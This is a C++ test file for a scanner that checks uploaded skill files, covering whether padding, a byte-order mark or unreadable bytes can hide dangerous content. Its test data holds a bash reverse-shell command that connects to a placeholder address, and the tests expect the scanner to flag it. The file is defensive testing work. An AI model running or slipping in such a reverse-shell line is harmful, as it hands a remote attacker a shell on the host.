// SPDX-License-Identifier: Apache-2.0
// Tests the findings in the bytes of a document.
#include "catch2.hpp"
#include "review/examination.hpp"

using namespace skillhost;

namespace {

std::vector<Finding> findingsOf(const std::string &path, const std::string &bytes,
                                bool executable = false) {
  Document document;
  document.skill = "a";
  document.path = path;
  document.revision = "1";
  document.executable = executable;
  return examine(document, bytes).findings;
}

} // namespace

TEST_CASE("padding does not hide what may be run or read") {
  const std::string bad = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
  const std::string padding(9U << 20U, '#');
  REQUIRE_FALSE(findingsOf("run.sh", bad).empty());
  CHECK(findingsOf("run.sh", bad).front().severity == Severity::Error);
  for (const char *path : {"run.sh", "run", "SKILL.md"}) {
    const std::vector<Finding> found = findingsOf(path, bad + padding);
    INFO(path);
    REQUIRE(found.size() == 1);
    CHECK(found.front().code == "not-inspected");
    CHECK(found.front().severity == Severity::Error);
  }
  CHECK(findingsOf("tool", padding, true).size() == 1);
  const std::vector<Finding> marked = findingsOf("run.sh", "\xFF\xFE" + bad);
  REQUIRE_FALSE(marked.empty());
  CHECK(marked.front().code == "exec.reverse-shell");
  CHECK(marked.front().severity == Severity::Error);
  const std::vector<Finding> unread = findingsOf("tool", std::string("\1\0\2\0", 4), true);
  REQUIRE(unread.size() == 1);
  CHECK(unread.front().code == "not-inspected");
  CHECK(unread.front().severity == Severity::Error);
  CHECK(findingsOf("table.bin", padding).empty());
}
